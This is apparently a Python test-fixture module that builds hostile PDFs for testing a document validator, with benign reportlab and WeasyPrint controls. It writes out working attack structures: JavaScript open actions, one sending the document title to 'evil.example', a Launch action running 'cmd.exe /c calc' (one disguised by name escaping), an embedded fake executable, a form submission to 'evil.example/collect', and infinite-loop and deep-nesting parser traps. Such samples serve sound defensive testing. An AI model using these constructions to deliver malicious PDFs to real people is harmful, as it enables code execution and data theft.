"""Real hostile PDFs, built the way an attacker would: with pypdf's writer or as raw bytes.

Each builder returns a complete file (``%%EOF`` present, a valid cross-reference table or stream) that pypdf
opens and that a viewer would run, so a refusal is about what the file does, not about it being broken.
"""

import io
import zlib

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from zhicheng.recommendations.demo import pdf_from_objects as raw_pdf

PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def compressed_pdf(compressed: dict[int, bytes], plain: dict[int, bytes], *, per_stream: int = 100) -> bytes:
    """PDF 1.5: the ``compressed`` objects inside Flate-compressed object streams of ``per_stream`` objects each,
    the ``plain`` ones in the file, and a cross-reference stream (no table) saying where each is. Object 1 is the
    catalogue."""
    numbers = sorted(compressed)
    next_number = max([*compressed, *plain]) + 1
    plain = dict(plain)
    where: dict[int, tuple[int, int]] = {}
    for start in range(0, len(numbers), per_stream):
        chunk, stream_number = numbers[start:start + per_stream], next_number
        next_number += 1
        header, body = [], b""
        for index, number in enumerate(chunk):
            header.append(f"{number} {len(body)}")
            body += compressed[number] + b"\n"
            where[number] = (stream_number, index)
        first = (" ".join(header) + "\n").encode()
        packed = zlib.compress(first + body)
        plain[stream_number] = (f"<< /Type /ObjStm /N {len(chunk)} /First {len(first)} /Length {len(packed)} "
                                f"/Filter /FlateDecode >>\nstream\n").encode() + packed + b"\nendstream"
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + plain[number] + b"\nendobj\n"
    return with_cross_reference_stream(out, offsets, where)


def with_cross_reference_stream(out: bytearray, offsets: dict[int, int], where: dict[int, tuple[int, int]]) -> bytes:
    """The file so far, then a cross-reference stream: ``offsets`` of objects in the file, ``where`` (object
    stream, index) of compressed ones. Object 1 is the catalogue."""
    xref_number = max([*offsets, *where]) + 1
    offsets = {**offsets, xref_number: len(out)}
    rows = bytearray()
    for number in range(xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00\x00"
        elif number in where:
            rows += b"\x02" + where[number][0].to_bytes(4, "big") + where[number][1].to_bytes(3, "big")
        else:
            rows += b"\x00" + b"\x00" * 4 + (b"\x00\xff\xff" if number == 0 else b"\x00\x00\x00")
    table = zlib.compress(bytes(rows))
    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 3] /Root 1 0 R "
            f"/Length {len(table)} /Filter /FlateDecode >>\nstream\n").encode() + table + b"\nendstream\nendobj\n"
    out += f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode()
    return bytes(out)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _name(value: str) -> NameObject:
    return NameObject(value)


def open_action_javascript() -> bytes:
    writer = _one_page()
    writer.root_object[_name("/OpenAction")] = writer._add_object(DictionaryObject({
        _name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert('已中毒');")}))
    return _written(writer)


def names_tree_javascript() -> bytes:
    """Document-level JavaScript in the catalogue's /Names /JavaScript tree (pypdf's own add_open_action)."""
    writer = _one_page()
    writer.add_open_action(JavaScript("app.launchURL('http://evil.example/?' + this.info.Title);"))
    return _written(writer)


def object_stream_javascript() -> bytes:
    """The catalogue and its /OpenAction JavaScript both live compressed inside an object stream."""
    return compressed_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
         4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {2: PAGES, 3: PAGE})


def launch_link() -> bytes:
    """A link annotation over the whole page that starts a program when clicked."""
    writer = _one_page()
    writer.add_annotation(0, DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"),
        _name("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595), FloatObject(842)]),
        _name("/A"): DictionaryObject({_name("/S"): _name("/Launch"),
                                       _name("/Win"): DictionaryObject({_name("/F"): TextStringObject("cmd.exe"),
                                                                        _name("/P"): TextStringObject("/c calc")})}),
    }))
    return _written(writer)


def embedded_exe() -> bytes:
    writer = _one_page()
    writer.add_attachment("发票查看器.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 2000)
    return _written(writer)


def page_open_launch_disguised() -> bytes:
    """A page's open action (/AA /O) that starts a program, its type #-escaped behind an indirect reference."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
                    b"<< /S 5 0 R /Win << /F (cmd.exe) /P (/c calc) >> >>", b"/L#61unch"])


def submit_form_link() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                    b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>"])


def xfa_form() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", PAGES, PAGE,
                    b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream"])


def javascript_uri() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
                    PAGES, PAGE])


def outline_loop() -> bytes:
    """Two bookmarks, each the /Next of the other: a viewer listing bookmarks goes round for ever."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>", PAGES, PAGE,
                    b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
                    b"<< /Title (a) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>",
                    b"<< /Title (b) /Parent 4 0 R /Next 5 0 R /Dest [3 0 R /Fit] >>"])


def page_tree_loop() -> bytes:
    """A /Pages node whose kid is a /Pages node whose kid is the first one."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", PAGE,
                    b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"])


def deeply_nested(depth: int = 200) -> bytes:
    """A page whose /Resources hold arrays nested ``depth`` deep."""
    nested = b"[" * depth + b"0" + b"]" * depth
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /X " + nested + b" >> >>"])


def overfull_object_stream(count: int = 6_000) -> bytes:
    """One object stream of more objects than any writer makes: pypdf would parse them all in one step."""
    filler = {number: b"<< /N %d >>" % number for number in range(4, 4 + count)}
    return compressed_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **filler}, {2: PAGES, 3: PAGE},
                          per_stream=count + 1)


def reportlab_pdf() -> bytes:
    """What an office or scanner program makes: text, bookmarks and web links on several pages."""
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out)
    for page in range(5):
        pdf.drawString(72, 720, f"Page {page + 1}")
        pdf.bookmarkPage(f"p{page}")
        pdf.addOutlineEntry(f"Page {page + 1}", f"p{page}")
        pdf.linkURL("https://www.chsi.com.cn/", (72, 700, 300, 730))
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def weasyprint_pdf() -> bytes:
    """A printed web page, as WeasyPrint writes it (links, internal anchors, bookmarks, tagged for PDF/UA)."""
    import weasyprint

    html = "".join(f"<h1>第{i}章</h1><p><a href='https://www.chsi.com.cn/'>学信网</a> <a href='#c{i}'>见下</a></p>"
                   f"<p id='c{i}' style='break-after: page'>学历证明</p>" for i in range(1, 4))
    return weasyprint.HTML(string=f"<html lang='zh'><body>{html}</body></html>").write_pdf(pdf_variant="pdf/ua-1")
